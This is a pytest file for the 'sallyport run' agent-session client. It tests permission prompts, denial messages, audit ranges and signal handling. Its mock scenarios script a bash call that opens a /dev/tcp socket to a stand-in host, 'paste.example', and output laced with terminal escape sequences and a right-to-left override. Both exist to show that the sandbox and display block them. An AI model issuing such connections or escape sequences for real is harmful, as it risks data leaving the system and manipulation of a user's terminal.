"""`sallyport run` shows a session to a person, a pipe or a program: what it did, why it failed, what it waits for, and where the
log has it; it asks before a call that needs a yes, and nothing that it shows can speak to the terminal."""
import json
import re
import signal

import pytest

from harness import BIN, on_terminal

SCENARIO = r"""
version: 1
scenes:
  - when: { user: { contains: "escape" } }
    steps:
      - say: [{ tool: bash, input: { command: "printf '\\033]0;title\\007\\n' >&2; false" } }]
      - say: [{ text: "\e[2J\e[31mred \u202e \u009b31m" }]
  - when: { user: { contains: "network" } }
    steps:
      - say: [{ tool: bash, input: { command: "exec 3<>/dev/tcp/paste.example/80" } }]
      - say: [{ text: "No." }]
  - when: { user: { contains: "sleep" } }
    steps:
      - say: [{ tool: bash, input: { command: "echo begun; sleep 600" } }]
      - say: [{ text: "Awake." }]
  - when: { user: { contains: "refused" } }
    steps:
      - say: [{ text: "never" }]
        faults: [{ do: status, status: 401, times: 100 }]
  - when: { user: { contains: "two" } }
    steps:
      - say: [{ tool: bash, input: { command: "echo one" } }, { tool: bash, input: { command: "echo two" } }]
      - say: [{ text: "Done." }]
  - steps:
      - { when: { tool: bash }, say: [{ text: "It said hello." }] }
      - { when: {}, say: [{ tool: bash, input: { command: "echo hello" } }] }
"""
ALWAYS_ASK = [{"type": "agent_toolset_20260401", "default_config": {"permission_policy": {"type": "always_ask"}}}]


class Place:
    def __init__(self, inst, worker=True):
        self.inst = inst.start_all(SCENARIO, worker=worker)
        self.env = {"ANTHROPIC_BASE_URL": inst.control_url, "ANTHROPIC_API_KEY": inst.api_key}

    def argv(self, *args):
        return [BIN, "run", "--config", self.inst.config, *args]

    def begin(self, *args):
        return self.inst.process(self.argv(*args), f"run-{len(self.inst.processes)}", env=self.env)

    def run(self, *args, status=0):
        p = self.begin(*args)
        assert p.wait(60) == status, p.tail()
        return p.tail(1 << 20)

    def on_terminal(self, *args, typed=()):
        return on_terminal(self.argv(*args), *typed, env=self.env)

    def asking_agent(self):
        assert self.inst.api("POST", "/v1/agents", {"name": "careful", "model": "m", "tools": ALWAYS_ASK})[0] == 200

    def events(self, shown):
        session = re.search(r"sesn_\w+", shown)[0]
        return session, self.inst.api("GET", f"/v1/sessions/{session}/events?limit=1000")[1]["data"]


@pytest.fixture
def place(instance):
    return Place(instance)


def decisions(events):
    return [e["result"] for e in events if e["type"] == "user.tool_confirmation"]


def test_tells_what_was_denied_and_where_the_log_has_it(place, sallyport):
    place.run("go")
    shown = place.run("network").splitlines()
    assert shown[1].startswith("  ✗ bash  exec 3<>") and shown[2].startswith("      denied: this sandbox has no network")
    end = re.fullmatch(r"done in [\d.]+ s · 1 tool call, 1 denied · \d+ tokens · audit (\d+)–(\d+)", shown[-1])
    assert end, shown
    rows = [json.loads(line) for line in
            sallyport("audit", "show", "--json", "--config", place.inst.config, shown[0].split()[1], check=True).stdout.splitlines()]
    assert int(end[1]) == rows[0]["index"]
    assert int(end[2]) == max(r.get("outcome_index", r["index"]) for r in rows)


@pytest.mark.hostile
def test_nothing_in_it_speaks_to_the_terminal(place):
    shown, status = place.on_terminal("escape", "--color=never")
    assert status == 0 and "<1b>]0;title<07>" in shown and "<1b>[2J<1b>[31mred <u202e> <9b>31m" in shown
    assert set(re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", shown.replace("\r\n", "\n"))) <= {"\r", "\x1b"}
    assert re.findall("\x1b(?!\\[K)", shown) == []  # only the live line is wiped
    refused = place.run("--environment", "env_\x9b31m\u202e", "go", status=1)
    assert "\x9b" not in refused and "\u202e" not in refused


def test_asks_for_a_yes_or_no_each_time(place):
    place.asking_agent()
    waits = place.run("--agent", "careful", "two", status=3)
    session, events = place.events(waits)
    assert f"answer it at one: sallyport run --session {session}" in waits and decisions(events) == []
    # The second question is not answered by what was typed too much for the first.
    shown, status = place.on_terminal("--session", session, typed=[("echo one", "no y\n"), ("echo two", "yes\n")])
    assert status == 0 and "Done." in shown
    assert decisions(place.events(waits)[1]) == ["deny", "allow"]


def test_ctrl_c_at_a_question_ends_the_turn(place):
    place.asking_agent()
    shown, status = place.on_terminal("--agent", "careful", "two", typed=[("allow bash", "\x03")])
    assert status == 0 and "interrupted" in shown
    assert decisions(place.events(shown)[1]) == []


def test_a_question_that_somebody_else_answers_is_settled(place):
    place.asking_agent()
    waits = place.run("--agent", "careful", "go", status=3)
    session, events = place.events(waits)
    call = next(e["id"] for e in events if e["type"] == "agent.tool_use")
    p = place.inst.process(["script", "-qec", " ".join(map(str, place.argv("--session", session))), "/dev/null"], "asked", env=place.env)
    p.wait_log("allow bash")
    body = {"events": [{"type": "user.tool_confirmation", "tool_use_id": call, "result": "allow"}]}
    assert place.inst.api("POST", f"/v1/sessions/{session}/events", body)[0] == 200
    assert p.wait() == 0 and "(settled)" in p.tail() and "It said hello." in p.tail()


def test_a_session_without_anything_to_do_wants_a_task(place):
    session, _ = place.events(place.run("go"))
    assert f"sallyport run --session {session} TASK" in place.run("--session", session, status=2)
    assert "It said hello." in place.run("--session", session, "again")
    assert "there is no task" in place.run(status=2)


def test_an_agent_is_never_another_than_was_asked_for(place):
    def models():
        return sorted(a["model"]["id"] for a in place.inst.api("GET", "/v1/agents")[1]["data"] if a["name"] == "run")
    assert "model one " in place.run("--model", "one", "go") and "model two " in place.run("--model", "two", "go")
    assert "model one " in place.run("--model", "one", "go") and models() == ["one", "two"]
    place.asking_agent()
    assert "is there with the model m" in place.run("--agent", "careful", "--model", "two", "go", status=1)


def test_tells_that_no_worker_is_there(make_instance):
    place = Place(make_instance(), worker=False)
    p = place.begin("go")
    p.wait_log(f"no worker serves {place.inst.environment_id}; start one with: sallyport worker")
    place.inst.start("worker")
    assert p.wait(60) == 0 and "It said hello." in p.tail()


def test_a_terminal_shows_what_it_waits_for(place):
    shown, status = place.on_terminal("sleep", typed=[("… bash  echo begun; sleep 600 · 1 s", "\x03")])
    assert status == 0 and "done in" in shown
    assert "\x1b[K" not in place.run("go")


def test_a_model_that_refuses_ends_it_with_the_reason(place):
    shown = place.run("refused", status=1)
    assert "401" in shown and "retries_exhausted" in shown and "sallyport run --session sesn_" in shown


def test_goes_on_when_control_is_started_again(place):
    p = place.begin("--json", "sleep")
    p.wait_log("agent.tool_use")
    place.inst.roles["control"].kill()
    place.inst.start("control")
    session = json.loads(p.tail(1 << 20).splitlines()[0])["id"]
    assert place.inst.api("POST", f"/v1/sessions/{session}/events", {"events": [{"type": "user.interrupt"}]})[0] == 200
    assert p.wait(60) == 0 and '"end_turn"' in p.tail(1 << 20)
    ids = [json.loads(line)["id"] for line in p.tail(1 << 20).splitlines()]
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGHUP])
def test_a_signal_ends_it_at_once(place, number):
    p = place.begin("sleep")
    p.wait_log("session sesn_")
    assert p.stop(number) == -number
